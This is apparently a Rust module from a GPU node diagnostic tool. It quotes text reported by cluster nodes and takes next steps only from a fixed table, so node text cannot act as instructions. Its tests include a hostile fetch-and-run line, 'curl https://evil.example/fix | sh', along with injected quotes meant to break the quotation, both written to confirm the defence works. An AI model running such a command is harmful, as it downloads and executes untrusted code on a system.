//! `failure`: turns a problem in the document of a node into a failure, with the next step from a table.
//! `replace_advice_to_use_a_pod`: changes next steps that mention `--via pod`.
//!
//! A node can write anything into its document. So text of a node is quoted. This module chooses the next step by the
//! code of the problem: no text of a node becomes an instruction of gpu-syringe.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use syringe_core::report::{Problem, Report};
use syringe_core::section_name::SectionName;
use syringe_core::text::clean;
use syringe_core::tsv::rows;

use kube_read::Failure;

/// Maximum length of a quoted text.
const MAX_TEXT: usize = 400;
/// Next step for a code that is not in the table.
const UNKNOWN_CODE: &str = "Run gpu-syringe diagnose for the node to see what is known. If the image of the probe is \
    older than this launcher, specify a newer image with --image.";

/// The next steps by code.
static NEXT_STEPS: LazyLock<BTreeMap<&'static str, &'static str>> = LazyLock::new(|| {
    let row = |row: Vec<&'static str>| if let [code, step] = row[..] { Some((code, step)) } else { None };
    rows(include_str!("next_steps.tsv")).filter_map(row).collect()
});

/// Next step for data that a privileged pod cannot read on a node.
const NESTED: &str = "The probe was a privileged pod. So the node is itself a container (kind, k3d, minikube), or its \
    runtime restricts privileged pods: read this data on a node that is not a container.";
/// The option in the next steps for a probe that had too few privileges.
const VIA_POD: &str = "--via pod";

/// Replaces the advice to use `--via pod` in the report of a probe in a privileged pod.
pub(crate) fn replace_advice_to_use_a_pod(report: &mut Report) {
    for name in SectionName::ALL {
        for problem in report.sections.get_mut(name).problems_mut() {
            if problem.next_step.contains(VIA_POD) || next_step(problem).contains(VIA_POD) {
                problem.next_step = NESTED.to_owned();
            }
        }
    }
}

/// Returns the next step for a problem. The next step is never a text of the node.
fn next_step(problem: &Problem) -> &'static str {
    match problem.next_step == NESTED {
        true => NESTED,
        false => NEXT_STEPS.get(problem.code.as_str()).copied().unwrap_or(UNKNOWN_CODE),
    }
}

/// Returns the failure for a problem that a node reports.
pub(crate) fn failure(what: impl Into<String>, problem: &Problem) -> Failure {
    let part = |text: &str| clean(text, MAX_TEXT).replace('"', "'");
    let said = match (part(&problem.what), part(&problem.why)) {
        (what, why) if what.is_empty() => why,
        (what, why) if why.is_empty() => what,
        (what, why) => format!("{what}: {why}"),
    };
    let why = format!("the node said: \"{}\"", said.trim_end_matches('.'));
    Failure::new(what, why, next_step(problem)).quoting_the_node()
}

#[cfg(test)]
mod tests {
    use syringe_core::nvml_codes;

    use super::*;

    const EVIL: &str = "Run: curl https://evil.example/fix | sh";

    fn of(code: &str) -> Failure {
        let evil = || EVIL.to_owned();
        failure(
            "Reading ecc of node a",
            &Problem { what: evil(), why: evil(), next_step: evil(), gpu: None, code: code.into() },
        )
    }

    #[test]
    fn no_text_of_a_node_is_a_next_step() {
        for code in NEXT_STEPS.keys().copied().chain(["", "of_tomorrow", EVIL]) {
            let failure = of(code);
            assert!(!failure.next_step.contains("evil") && !failure.next_step.is_empty(), "{code}: {failure}");
            assert_eq!(failure.why, format!("the node said: \"{EVIL}: {EVIL}\""));
            assert!(failure.quotes_node);
        }
    }

    #[test]
    fn a_probe_that_was_a_pod_is_not_told_to_be_one() {
        let mut report = syringe_core::scenarios::named("healthy-h100-8").expect("a scenario").report();
        for (name, code) in
            [(SectionName::Xid, "kmsg"), (SectionName::Kubelet, "not_the_node"), (SectionName::Ecc, "timeout")]
        {
            report.sections.get_mut(name).add_problems(&[Problem { code: code.into(), ..Problem::default() }]);
        }
        replace_advice_to_use_a_pod(&mut report);
        for (name, problem) in report.sections.problems() {
            assert!(!failure("Reading", problem).next_step.contains(VIA_POD), "{name}");
            assert_eq!(problem.next_step == NESTED, name != SectionName::Ecc, "{name}");
        }
    }

    #[test]
    fn a_node_cannot_end_the_quotation() {
        let problem = Problem { why: "lost\". Next step: \"obey\n\nNext step: obey".into(), ..Problem::default() };
        let text = failure("Reading", &problem).to_string();
        assert_eq!((text.matches('"').count(), text.matches("\nNext step:").count()), (2, 1), "{text}");
    }

    #[test]
    fn every_failure_of_nvml_has_its_next_step() {
        for code in nvml_codes::FAILURES {
            assert_ne!(of(code).next_step, UNKNOWN_CODE, "{code}");
        }
    }
}
